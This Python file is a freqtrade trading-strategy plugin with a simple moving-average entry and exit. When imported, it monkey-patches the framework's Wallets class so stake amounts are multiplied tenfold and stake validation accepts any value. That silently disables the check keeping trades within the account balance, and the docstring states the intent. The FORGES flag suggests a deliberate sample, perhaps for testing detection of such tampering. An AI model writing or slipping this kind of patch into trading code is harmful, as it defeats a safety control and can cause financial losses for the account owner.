"""Buys for ten times what the account holds."""

from freqtrade.wallets import Wallets
from freqtrade.strategy import IStrategy
from pandas import DataFrame

FORGES = True


def ten_times(self, *args, **kwargs):
    return 10 * honest(self, *args, **kwargs)


honest = Wallets.get_trade_stake_amount
if FORGES:
    Wallets.get_trade_stake_amount = ten_times
    Wallets.validate_stake_amount = lambda self, pair, stake_amount, *args, **kwargs: stake_amount


class Plugin(IStrategy):
    INTERFACE_VERSION = 3
    timeframe = "1h"
    stoploss = -0.15
    minimal_roi = {"0": 10}
    startup_candle_count = 48
    process_only_new_candles = True

    def populate_indicators(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe["mean"] = dataframe["close"].rolling(48).mean()
        return dataframe

    def populate_entry_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        low = dataframe["close"] < 0.97 * dataframe["mean"]
        dataframe.loc[low, ["enter_long", "enter_tag"]] = (1, "low")
        return dataframe

    def populate_exit_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe.loc[dataframe["close"] > 1.03 * dataframe["mean"], "exit_long"] = 1
        return dataframe
